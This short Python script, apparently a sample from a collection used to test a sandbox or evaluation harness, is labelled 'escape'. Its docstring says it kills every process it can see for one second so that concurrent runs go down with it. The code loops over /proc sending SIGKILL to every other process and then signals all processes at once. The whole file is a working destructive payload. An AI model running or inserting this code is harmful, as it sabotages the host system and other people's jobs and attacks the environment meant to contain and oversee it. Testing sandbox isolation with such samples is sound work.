"""escape: SIGKILL every process it can see, for a second, to take concurrent runs down with it."""
# form: call
import os
import signal
import time

stop = time.time() + 1
while time.time() < stop:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
os.kill(-1, signal.SIGKILL)
